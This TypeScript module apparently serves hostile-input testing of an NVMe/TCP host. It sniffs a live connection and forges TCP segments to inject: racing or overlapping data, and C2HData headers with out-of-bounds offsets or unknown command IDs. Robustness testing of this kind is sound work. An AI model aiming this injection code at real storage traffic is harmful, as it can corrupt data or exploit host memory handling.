/**
 * Forged TCP segments for a live NVMe/TCP connection (issue 10, "Hostile
 * input"): what an on-path attacker who sees the target's frames can inject
 * toward the host, built as whole IPv4 packets for raw-inject.ts.
 *
 * The forger learns a connection from the frames it sniffs next to the
 * target (StreamSniffer): the target's next sequence number, the ACK and
 * timestamps it sends (a forged segment must carry both right or the host's
 * TCP drops it: ACK of unsent data, PAWS), whether C2HData carries digests,
 * and where PDU headers are in the target's stream — the walk a receiver
 * does, done on the sender's side where bytes go out in order. With that it
 * can aim a segment at a byte TCP has not received yet (it wins if it gets
 * there before the real one: TCP keeps the first copy), at bytes TCP
 * already holds (an overlapping retransmission with other bytes: TCP keeps
 * its first copy and drops these), or at the next PDU header, replacing it
 * with a C2HData header of its own: a real in-flight CID with DATAO or
 * DATAL past the read's buffer, or a CID that is not outstanding.
 *
 * Everything here is pure (frames in, packets out); forge-inject-cli.ts
 * sniffs and injects.
 */
import { crc32c } from '../wire/crc32c.js';
import { parseFrame } from '../wire/frame.js';
import { buildIpv4, IPPROTO_TCP, IPV4_DF } from '../wire/ipv4.js';
import { NVME_TCP_COMMON_HEADER_LEN, NVME_TCP_DIGEST_LEN, PduFlags, PduType, isPlausiblePduHeader } from '../wire/nvme-tcp-pdu.js';
import { seqAdd, seqDiff, seqGt, seqLe, seqLt } from '../wire/seq.js';
import { buildTcp, TCP_ACK, TCP_PSH, TCP_RST, TCP_SYN } from '../wire/tcp.js';

// Common header and data-PDU header fields (FACTS.md, "NVMe/TCP wire format").
const CH_TYPE = 0;
const CH_FLAGS = 1;
const CH_HLEN = 2;
const CH_PDO = 3;
const CH_PLEN = 4;
const XFER_CCCID = 8;
const XFER_DATAO = 12;
const XFER_DATAL = 16;
/** C2HData and CapsuleResp headers are both 24 bytes. */
const C2H_HLEN = 24;
/** The CQE's command id inside a CapsuleResp: common header 8 + CQE offset 12. */
const RESP_CID = 8 + 12;
/** The ICResp a target sends first on every connection. */
const ICRESP_PLEN = 128;

/** A C2HData header to forge. */
export interface ForgedC2HData {
  readonly cccid: number;
  readonly datao: number;
  readonly datal: number;
  /** The connection's digests: a forged header must carry them as configured or it is refused as malformed. */
  readonly hdgst: boolean;
  readonly ddgst: boolean;
  readonly lastPdu?: boolean;
}

/**
 * The header (and HDGST) of a C2HData PDU, with no data after it: PLEN
 * announces DATAL bytes and the DDGST as a real PDU would (PDO right after
 * the header), so every check a receiver makes on the header alone passes.
 */
export function forgeC2HDataHeader(h: ForgedC2HData): Buffer {
  const headLen = C2H_HLEN + (h.hdgst ? NVME_TCP_DIGEST_LEN : 0);
  const out = Buffer.alloc(headLen);
  out[CH_TYPE] = PduType.C2HData;
  out[CH_FLAGS] = (h.hdgst ? PduFlags.HDGSTF : 0) | (h.ddgst ? PduFlags.DDGSTF : 0) | (h.lastPdu === true ? PduFlags.LAST_PDU : 0);
  out[CH_HLEN] = C2H_HLEN;
  out[CH_PDO] = headLen;
  out.writeUInt32LE(headLen + h.datal + (h.ddgst ? NVME_TCP_DIGEST_LEN : 0), CH_PLEN);
  out.writeUInt16LE(h.cccid, XFER_CCCID);
  out.writeUInt32LE(h.datao >>> 0, XFER_DATAO);
  out.writeUInt32LE(h.datal >>> 0, XFER_DATAL);
  if (h.hdgst) out.writeUInt32LE(crc32c(out.subarray(0, C2H_HLEN)), C2H_HLEN);
  return out;
}

/** A PDU header the sniffer walked in the target's stream. */
export interface SniffedPdu {
  /** TCP sequence number of its first byte. */
  readonly seq: number;
  readonly type: number;
  readonly flags: number;
  readonly plen: number;
  /** CCCID of a C2HData, CID of a CapsuleResp; -1 for other types. */
  readonly cid: number;
  /** C2HData only (else 0). */
  readonly datao: number;
  readonly datal: number;
}

/** A read the forger saw data for and no completion yet: a CID a forged header can name. */
export interface InflightRead {
  readonly cid: number;
  /** End of the furthest data seen (DATAO + DATAL): the buffer is at least this long. */
  readonly dataEnd: number;
  /** The last C2HData PDU of it carried LAST_PDU: dataEnd is the buffer's length. */
  readonly lastSeen: boolean;
}

/** What a forged segment needs to pass the host's TCP checks, as last seen from the target. */
export interface ConnectionView {
  readonly targetIp: number;
  readonly hostIp: number;
  readonly targetPort: number;
  readonly hostPort: number;
  /** The target's next new sequence number (highest byte sent + 1). */
  readonly sndNxt: number;
  /** The ACK the target sent last (the host's data it received). */
  readonly ack: number;
  readonly window: number;
  /** The target's latest TSval and TSecr, when the connection uses timestamps. */
  readonly tsVal: number | undefined;
  readonly tsEcr: number | undefined;
  /** Digests, as the C2HData headers carry them (undefined until one went by). */
  readonly hdgst: boolean | undefined;
  readonly ddgst: boolean | undefined;
  /** Where the next PDU header of the target's stream starts, once the walk is in sync. */
  readonly nextPduSeq: number | undefined;
}

/**
 * One connection's target → host stream as the forger sees it next to the
 * target. Feed it every frame of the connection in capture order (both
 * directions); it walks PDU headers in the target's new bytes and reports
 * each one. A header split across segments is gathered; retransmissions are
 * skipped (their bytes were walked when they first went by).
 *
 * Sync: from the SYN-ACK (the stream starts with the ICResp), or, when the
 * sniffer starts mid-connection, at the first segment that begins with a
 * plausible C2HData or CapsuleResp header.
 */
export class StreamSniffer {
  private readonly targetPort: number;
  private targetIp = 0;
  private hostIp = 0;
  private hostPort = 0;
  private known = false;
  private sndNxt = 0;
  private ack = 0;
  private window = 0;
  private tsVal: number | undefined;
  private tsEcr: number | undefined;
  private hdgst: boolean | undefined;
  private ddgst: boolean | undefined;
  // The walk.
  private synced = false;
  private nextPdu = 0;
  private readonly hdr = Buffer.alloc(C2H_HLEN);
  private hdrFill = 0;
  private readonly inflight = new Map<number, InflightRead>();

  constructor(targetPort = 4420) {
    this.targetPort = targetPort;
  }

  /** Takes one frame; returns the PDU headers that completed in it (target → host only). */
  observe(frame: Buffer): SniffedPdu[] {
    let f;
    try {
      f = parseFrame(frame);
    } catch {
      return [];
    }
    const tcp = f.tcp;
    if (f.ip === undefined || tcp === undefined) return [];
    if (tcp.srcPort !== this.targetPort) return [];
    if (!this.known) {
      this.known = true;
      this.targetIp = f.ip.src;
      this.hostIp = f.ip.dst;
      this.hostPort = tcp.dstPort;
    } else if (f.ip.src !== this.targetIp || f.ip.dst !== this.hostIp || tcp.dstPort !== this.hostPort) {
      return [];
    }
    if ((tcp.flags & TCP_RST) !== 0) return [];
    this.ack = tcp.ack;
    this.window = tcp.window;
    if (tcp.options.tsVal !== undefined) {
      this.tsVal = tcp.options.tsVal;
      this.tsEcr = tcp.options.tsEcr;
    }
    const len = tcp.payload.length;
    if ((tcp.flags & TCP_SYN) !== 0) {
      this.sndNxt = seqAdd(tcp.seq, 1 + len);
      this.synced = true;
      this.nextPdu = seqAdd(tcp.seq, 1);
      this.hdrFill = 0;
      return [];
    }
    if (len === 0) return [];
    const end = seqAdd(tcp.seq, len);
    const fresh = !this.synced || seqGt(end, this.sndNxt);
    if (!this.synced && this.startsWithHeader(tcp.payload)) {
      this.synced = true;
      this.nextPdu = tcp.seq;
      this.hdrFill = 0;
      this.sndNxt = tcp.seq;
    }
    if (!fresh) return [];
    const out: SniffedPdu[] = [];
    if (this.synced) this.walk(tcp.seq, tcp.payload, out);
    if (!this.synced || seqGt(end, this.sndNxt)) this.sndNxt = end;
    return out;
  }

  /** The connection as a forged segment must match it; undefined before the first target frame. */
  view(): ConnectionView | undefined {
    if (!this.known) return undefined;
    return {
      targetIp: this.targetIp,
      hostIp: this.hostIp,
      targetPort: this.targetPort,
      hostPort: this.hostPort,
      sndNxt: this.sndNxt,
      ack: this.ack,
      window: this.window,
      tsVal: this.tsVal,
      tsEcr: this.tsEcr,
      hdgst: this.hdgst,
      ddgst: this.ddgst,
      nextPduSeq: this.synced ? this.nextPdu : undefined,
    };
  }

  /** Reads with data seen and no completion yet. */
  inflightReads(): InflightRead[] {
    return [...this.inflight.values()];
  }

  private startsWithHeader(payload: Buffer): boolean {
    const t = payload[0];
    return (t === PduType.C2HData || t === PduType.CapsuleResp) && isPlausiblePduHeader(payload, 0);
  }

  /** Walks the new bytes of a segment that starts at `seq`. */
  private walk(seq: number, payload: Buffer, out: SniffedPdu[]): void {
    // Bytes before sndNxt went by already (a segment overlapping the last one).
    let at = seqLt(seq, this.sndNxt) ? seqDiff(this.sndNxt, seq) : 0;
    if (seqGt(seq, this.sndNxt)) {
      // A hole on the sender's side: the capture missed frames. Lose the walk; find a header again.
      this.synced = false;
      return;
    }
    while (at < payload.length) {
      const pos = seqAdd(seq, at);
      if (seqLt(pos, this.nextPdu)) {
        at += Math.min(payload.length - at, seqDiff(this.nextPdu, pos));
        continue;
      }
      const n = Math.min(C2H_HLEN - this.hdrFill, payload.length - at);
      payload.copy(this.hdr, this.hdrFill, at, at + n);
      this.hdrFill += n;
      at += n;
      if (this.hdrFill < NVME_TCP_COMMON_HEADER_LEN) return;
      const hlen = this.hdr[CH_HLEN]!;
      const plen = this.hdr.readUInt32LE(CH_PLEN);
      const need = Math.min(hlen, C2H_HLEN);
      if (this.hdrFill < need) continue;
      if (!isPlausiblePduHeader(this.hdr.subarray(0, this.hdrFill), 0) && this.hdr[CH_TYPE] !== PduType.ICResp) {
        this.synced = false;
        return;
      }
      out.push(this.header(this.nextPdu, plen));
      this.nextPdu = seqAdd(this.nextPdu, plen);
      this.hdrFill = 0;
    }
  }

  private header(seq: number, plen: number): SniffedPdu {
    const h = this.hdr;
    const type = h[CH_TYPE]!;
    const flags = h[CH_FLAGS]!;
    let cid = -1;
    let datao = 0;
    let datal = 0;
    if (type === PduType.C2HData) {
      cid = h.readUInt16LE(XFER_CCCID);
      datao = h.readUInt32LE(XFER_DATAO);
      datal = h.readUInt32LE(XFER_DATAL);
      this.hdgst = (flags & PduFlags.HDGSTF) !== 0;
      this.ddgst = (flags & PduFlags.DDGSTF) !== 0;
      const prev = this.inflight.get(cid);
      const end = datao + datal;
      this.inflight.set(cid, { cid, dataEnd: Math.max(end, prev?.dataEnd ?? 0), lastSeen: (flags & PduFlags.LAST_PDU) !== 0 });
      if ((flags & PduFlags.SUCCESS) !== 0) this.inflight.delete(cid);
    } else if (type === PduType.CapsuleResp) {
      cid = h.readUInt16LE(RESP_CID);
      this.inflight.delete(cid);
    } else if (type === PduType.ICResp && plen !== ICRESP_PLEN) {
      this.synced = false;
    }
    return { seq, type, flags, plen, cid, datao, datal };
  }
}

/** TCP header choices of a forged segment; by default what the target would send now. */
export interface ForgeTcp {
  readonly seq: number;
  readonly payload: Buffer;
  /** Default ACK|PSH. */
  readonly flags?: number;
  /** Default the target's last ACK. */
  readonly ack?: number;
  /** Default the target's last TSval (never older than what the host holds as TS.Recent). */
  readonly tsVal?: number;
  /** IPv4 identification: marks the forger's packets in a capture. */
  readonly ipId?: number;
}

/** IP identification of every forged packet: lets a capture or a test tell them from the target's. */
export const FORGED_IP_ID = 0xf0f0;

/**
 * A whole IPv4 packet from the target to the host, as `view` says the
 * target sends now, with the sequence number, payload and any field the
 * caller overrides. The TCP checksum is right (a wrong one would be dropped
 * by the NIC before anything else looks at it).
 */
export function forgeSegment(view: ConnectionView, f: ForgeTcp): Buffer {
  const tsVal = f.tsVal ?? view.tsVal;
  const tcp = buildTcp(
    {
      srcPort: view.targetPort,
      dstPort: view.hostPort,
      seq: f.seq >>> 0,
      ack: (f.ack ?? view.ack) >>> 0,
      flags: f.flags ?? TCP_ACK | TCP_PSH,
      window: view.window,
      options: tsVal !== undefined ? { tsVal, tsEcr: view.tsEcr ?? 0 } : undefined,
    },
    view.targetIp,
    view.hostIp,
    f.payload,
  );
  return buildIpv4({ src: view.targetIp, dst: view.hostIp, protocol: IPPROTO_TCP, ttl: 64, id: f.ipId ?? FORGED_IP_ID, flags: IPV4_DF }, tcp);
}

/** The hostile cases of issue 10's first point. */
export type ForgeCase = 'in-window' | 'overlap' | 'past-buffer' | 'unknown-cid';

export const FORGE_CASES: readonly ForgeCase[] = ['overlap', 'in-window', 'past-buffer', 'unknown-cid'];

/** One planned injection: the packet, and where it aims in the target's stream. */
export interface ForgePlan {
  readonly kind: ForgeCase;
  readonly seq: number;
  readonly len: number;
  /** For header forgeries: the header put there. */
  readonly header?: ForgedC2HData;
  readonly packet: Buffer;
  /** One line for the injector's log. */
  readonly what: string;
}

/** A CID no read is using: what the forger names for an unknown CID. */
export const UNKNOWN_CID = 0xbeef;

/**
 * Plans `kind` on the connection `view` describes, triggered by the C2HData
 * header `pdu` the sniffer just walked (the header's segment is the last
 * one the target sent, so its end is the target's sndNxt):
 *  - overlap: the last `overlapBytes` the target sent, again, with every
 *    byte inverted — TCP holds the first copy already;
 *  - in-window: `forgeBytes` of other payload inside the data of this PDU,
 *    ahead of what the target has sent — it wins if it gets there first;
 *  - past-buffer: at the next PDU header (after this PDU), a C2HData for
 *    this read's CID that starts at the end of the data seen for it (its
 *    last PDU: the end of its buffer), or, when `datalPast`, starts at 0 and
 *    runs 4 KiB past that end;
 *  - unknown-cid: at the next PDU header, a C2HData for UNKNOWN_CID.
 * Undefined when the view lacks what the case needs (digests unknown, a
 * PDU too small to aim inside).
 */
export function planForgery(
  kind: ForgeCase,
  view: ConnectionView,
  pdu: SniffedPdu,
  read: InflightRead | undefined,
  opts: { readonly overlapBytes?: number; readonly forgeBytes?: number; readonly datalPast?: boolean; readonly fill?: number } = {},
): ForgePlan | undefined {
  if (pdu.type !== PduType.C2HData || view.hdgst === undefined || view.ddgst === undefined) return undefined;
  const headLen = C2H_HLEN + (view.hdgst ? NVME_TCP_DIGEST_LEN : 0);
  const pduEnd = seqAdd(pdu.seq, pdu.plen);
  switch (kind) {
    case 'overlap': {
      const n = Math.min(opts.overlapBytes ?? 1024, seqDiff(view.sndNxt, pdu.seq));
      if (n <= 0) return undefined;
      const seq = seqAdd(view.sndNxt, -n);
      const payload = Buffer.alloc(n, opts.fill ?? 0x5a);
      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `overlap: ${n} bytes at seq ${seq >>> 0}, all already sent` };
    }
    case 'in-window': {
      const n = opts.forgeBytes ?? 1024;
      // Aim at the second half of this PDU's data: far enough ahead that the real bytes may not be out yet.
      const dataEnd = seqAdd(pdu.seq, headLen + pdu.datal);
      const seq = seqAdd(dataEnd, -n);
      if (pdu.datal < 4 * n || seqLe(seq, view.sndNxt)) return undefined;
      const payload = Buffer.alloc(n, opts.fill ?? 0xa5);
      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `in-window: ${n} bytes of other payload at seq ${seq >>> 0} (sent up to ${view.sndNxt >>> 0})` };
    }
    case 'past-buffer':
    case 'unknown-cid': {
      if (seqLe(pduEnd, view.sndNxt)) return undefined;
      let header: ForgedC2HData;
      if (kind === 'unknown-cid') {
        header = { cccid: UNKNOWN_CID, datao: 0, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
      } else {
        if (read === undefined) return undefined;
        const end = Math.max(read.dataEnd, pdu.datao + pdu.datal);
        header =
          opts.datalPast === true
            ? { cccid: read.cid, datao: 0, datal: end + 4096, hdgst: view.hdgst, ddgst: view.ddgst }
            : { cccid: read.cid, datao: end, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
      }
      const payload = forgeC2HDataHeader(header);
      return {
        kind,
        seq: pduEnd,
        len: payload.length,
        header,
        packet: forgeSegment(view, { seq: pduEnd, payload }),
        what: `${kind}: C2HData cid ${header.cccid} DATAO ${header.datao} DATAL ${header.datal} at seq ${pduEnd >>> 0}`,
      };
    }
  }
}
